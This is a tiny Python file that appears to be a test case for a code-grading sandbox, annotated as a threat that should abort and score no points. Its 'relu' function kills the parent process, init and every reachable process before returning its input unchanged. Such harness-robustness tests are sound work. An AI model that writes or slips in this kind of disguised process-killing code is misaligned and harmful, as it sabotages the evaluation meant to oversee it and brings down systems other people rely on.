# threat: every process that can be reached is killed
# stock: aborts
# outcome: no points
# %% relu
import os, signal


def relu(x):
    for process in (os.getppid(), 1, 2, -1):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    return x
